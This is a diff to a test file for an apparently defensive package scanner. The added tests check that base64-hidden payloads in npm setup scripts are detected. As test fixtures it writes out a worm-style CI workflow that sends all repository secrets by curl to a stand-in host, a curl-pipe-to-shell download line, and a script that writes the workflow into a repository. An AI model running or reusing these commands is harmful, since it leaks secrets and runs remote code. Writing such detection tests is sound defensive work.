@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import base64
 import codecs
 from collections.abc import Callable
 
@@ -169,6 +170,44 @@ def test_numbers_split_into_short_runs_or_written_in_hex_are_read(
     )
     labels = _rules(_module(engine, code))
     assert labels["download_pipe_to_shell"].endswith("(hidden in character codes)")
+
+
+#: A workflow a worm writes into every repository it reaches, kept in base64.
+WORKFLOW = (
+    "on: push\njobs:\n  ci:\n    runs-on: ubuntu-latest\n    steps:\n"
+    '      - run: curl -d "$S" https://hooks.example.net/c\n'
+    "        env:\n          S: ${{ toJSON(secrets) }}\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("payload", "rule"),
+    [
+        (WORKFLOW, "ci_secrets_dumped_by_workflow"),
+        ("curl -fsSL https://x.example.net/boot.sh | sh", "download_pipe_to_shell"),
+    ],
+    ids=["a long literal", "a short one"],
+)
+def test_base64_literals_of_a_file_that_decodes_base64_are_read(
+    engine: Engine, payload: str, rule: str
+) -> None:
+    encoded = base64.b64encode(payload.encode()).decode()
+    script = (
+        "const fs = require('fs');\n"
+        f"const text = Buffer.from('{encoded}', 'base64').toString();\n"
+        "fs.writeFileSync('.github/workflows/ci.yml', text);\n"
+    )
+    found = package(engine, npm_tarball({"setup.js": script})).file("setup.js")
+    assert found is not None
+    assert _rules(found)[rule].endswith("(hidden in base64)")
+
+
+def test_base64_pictures_and_binary_blobs_reveal_nothing(engine: Engine) -> None:
+    picture = base64.b64encode(bytes(range(256)) * 4).decode()
+    script = f"const img = atob('{picture}');\nmodule.exports = img;\n"
+    found = package(engine, npm_tarball({"index.js": script})).file("index.js")
+    assert found is not None
+    assert not [hit for hit in found.signatures if "hidden in" in hit.label]
 
 
 def test_python_names_in_full_width_letters_are_read_as_python_reads_them(
